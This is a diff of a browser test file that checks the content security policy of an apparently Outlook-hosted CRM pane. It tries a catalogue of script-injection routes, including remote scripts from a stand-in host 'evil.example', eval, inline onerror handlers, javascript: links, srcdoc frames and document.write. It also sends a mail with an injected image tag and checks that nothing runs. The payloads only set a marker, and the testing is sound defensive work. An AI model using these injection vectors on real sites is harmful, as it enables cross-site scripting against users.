@@ -8,92 +8,104 @@ const elsewhere = 'https://evil.example';
  * What is tried in the pane, each in words; gives those that went through, each within `patience`
  * milliseconds.
  */
-async function tryEverything(
-  outlook: OutlookWindow,
-  patience: number,
-): Promise<readonly string[]> {
-  return outlook.pane.frame.locator('body').evaluate(async (body, [evil, most]) => {
-    const through: string[] = [];
-    const page = window as unknown as { ran?: string; trustedTypes: TrustedTypes };
-    interface TrustedTypes {
-      createPolicy(name: string, rules: object): unknown;
-    }
-    const attempt = async (what: string, act: () => unknown): Promise<void> => {
-      delete page.ran;
-      try {
-        // Later, for what the debugger runs itself may evaluate.
-        const isDone = await new Promise((done, fail) =>
-          setTimeout(() => {
-            try {
-              done(act());
-            } catch (error) {
-              fail(error as Error);
-            }
-          }),
-        );
-        for (let waited = 0; waited < most && isDone !== true && !page.ran; waited += 50) {
-          await new Promise((done) => setTimeout(done, 50));
-        }
-        if (isDone === true || page.ran !== undefined) through.push(what);
-      } catch {
-        // Refused.
+async function tryEverything(outlook: OutlookWindow, patience: number): Promise<readonly string[]> {
+  return outlook.pane.frame.locator('body').evaluate(
+    async (body, [evil, most]) => {
+      const through: string[] = [];
+      const page = window as unknown as { ran?: string; trustedTypes: TrustedTypes };
+      interface TrustedTypes {
+        createPolicy(name: string, rules: object): unknown;
       }
-    };
-    const run = `window.ran = 'it ran'`;
-    const script = (fill: (element: HTMLScriptElement) => void) => () => {
-      const element = document.createElement('script');
-      fill(element);
-      body.append(element);
-    };
-    await attempt('a script with text', script((element) => (element.text = run)));
-    await attempt('a script with a text node', script((element) => element.append(run)));
-    await attempt('a script from elsewhere', script((element) => (element.src = `${evil}/a.js`)));
-    await attempt('a script of data', script((element) => (element.src = `data:,${run}`)));
-    await attempt('a module from elsewhere', () => import(`${evil}/a.js`).then(() => true));
-    await attempt('eval', () => globalThis.eval(`${run}; true`) === true);
-    await attempt('a function of text', () => new Function(`${run}; return true`)());
-    await attempt('a timer of text', () => setTimeout(run));
-    await attempt('innerHTML', () => {
-      body.appendChild(document.createElement('p')).innerHTML = '<b>bold</b>';
-      return true;
-    });
-    await attempt('insertAdjacentHTML', () => {
-      body.insertAdjacentHTML('beforeend', '<b>bold</b>');
-      return true;
-    });
-    await attempt('an inline handler', () => {
-      const image = document.createElement('img');
-      image.setAttribute('onerror', run);
-      image.src = 'none:';
-    });
-    await attempt('a javascript: link', () => {
-      const link = document.createElement('a');
-      link.href = `javascript:void (${run})`;
-      body.append(link);
-      link.click();
-    });
-    await attempt('a document of text', () => {
-      const frame = document.createElement('iframe');
-      frame.srcdoc = `<script>parent.ran = 'it ran'</script>`;
-      body.append(frame);
-    });
-    for (const name of ['evil', 'default', 'angular#unsafe-bypass', 'angular#unsafe-jit']) {
-      await attempt(`the policy ${name}`, () => {
-        page.trustedTypes.createPolicy(name, {});
+      const attempt = async (what: string, act: () => unknown): Promise<void> => {
+        delete page.ran;
+        try {
+          // Later, for what the debugger runs itself may evaluate.
+          const isDone = await new Promise((done, fail) =>
+            setTimeout(() => {
+              try {
+                done(act());
+              } catch (error) {
+                fail(error as Error);
+              }
+            }),
+          );
+          for (let waited = 0; waited < most && isDone !== true && !page.ran; waited += 50) {
+            await new Promise((done) => setTimeout(done, 50));
+          }
+          if (isDone === true || page.ran !== undefined) through.push(what);
+        } catch {
+          // Refused.
+        }
+      };
+      const run = `window.ran = 'it ran'`;
+      const script = (fill: (element: HTMLScriptElement) => void) => () => {
+        const element = document.createElement('script');
+        fill(element);
+        body.append(element);
+      };
+      await attempt(
+        'a script with text',
+        script((element) => (element.text = run)),
+      );
+      await attempt(
+        'a script with a text node',
+        script((element) => element.append(run)),
+      );
+      await attempt(
+        'a script from elsewhere',
+        script((element) => (element.src = `${evil}/a.js`)),
+      );
+      await attempt(
+        'a script of data',
+        script((element) => (element.src = `data:,${run}`)),
+      );
+      await attempt('a module from elsewhere', () => import(`${evil}/a.js`).then(() => true));
+      await attempt('eval', () => globalThis.eval(`${run}; true`) === true);
+      await attempt('a function of text', () => new Function(`${run}; return true`)());
+      await attempt('a timer of text', () => setTimeout(run));
+      await attempt('innerHTML', () => {
+        body.appendChild(document.createElement('p')).innerHTML = '<b>bold</b>';
         return true;
       });
-    }
-    await attempt('a call without https', () =>
-      fetch(evil.replace('https', 'http')).then(() => true),
-    );
-    await attempt('a worker', () => new Worker('main.js') instanceof Worker);
-    // The last, for where it is not refused it replaces the page.
-    await attempt('document.write', () => {
-      document.write('<b>bold</b>');
-      return true;
-    });
-    return through;
-  }, [elsewhere, patience] as const);
+      await attempt('insertAdjacentHTML', () => {
+        body.insertAdjacentHTML('beforeend', '<b>bold</b>');
+        return true;
+      });
+      await attempt('an inline handler', () => {
+        const image = document.createElement('img');
+        image.setAttribute('onerror', run);
+        image.src = 'none:';
+      });
+      await attempt('a javascript: link', () => {
+        const link = document.createElement('a');
+        link.href = `javascript:void (${run})`;
+        body.append(link);
+        link.click();
+      });
+      await attempt('a document of text', () => {
+        const frame = document.createElement('iframe');
+        frame.srcdoc = `<script>parent.ran = 'it ran'</script>`;
+        body.append(frame);
+      });
+      for (const name of ['evil', 'default', 'angular#unsafe-bypass', 'angular#unsafe-jit']) {
+        await attempt(`the policy ${name}`, () => {
+          page.trustedTypes.createPolicy(name, {});
+          return true;
+        });
+      }
+      await attempt('a call without https', () =>
+        fetch(evil.replace('https', 'http')).then(() => true),
+      );
+      await attempt('a worker', () => new Worker('main.js') instanceof Worker);
+      // The last, for where it is not refused it replaces the page.
+      await attempt('document.write', () => {
+        document.write('<b>bold</b>');
+        return true;
+      });
+      return through;
+    },
+    [elsewhere, patience] as const,
+  );
 }
 
 test.describe('what the policy refuses', () => {
@@ -267,13 +279,17 @@ test.describe('a hostile mail', () => {
     await pane.expectRest();
     const form = new RecordForm(pane.frame);
     await form.open('Contact');
-    await expect(pane.frame.getByText(`Last Name <img src=${evil}/label.png`).first()).toBeVisible();
+    await expect(
+      pane.frame.getByText(`Last Name <img src=${evil}/label.png`).first(),
+    ).toBeVisible();
     await form.button('Cancel').click();
     await pane.choose(/<img src=.*label\.png/);
     await pane.link();
     await pane.expectText(/^Linked to <img src=/);
     expect(await crm.messages()).toHaveLength(1);
-    const alive = pane.frame.locator('script[src*=evil], img, iframe, object, base[href*=evil], [onerror]');
+    const alive = pane.frame.locator(
+      'script[src*=evil], img, iframe, object, base[href*=evil], [onerror]',
+    );
     await expect(alive).toHaveCount(0);
     expect(await pane.frame.locator('body').evaluate(() => 'ran' in window)).toBe(false);
     // What Outlook's own window shows of the mail is Outlook's affair, and it loads nothing either.
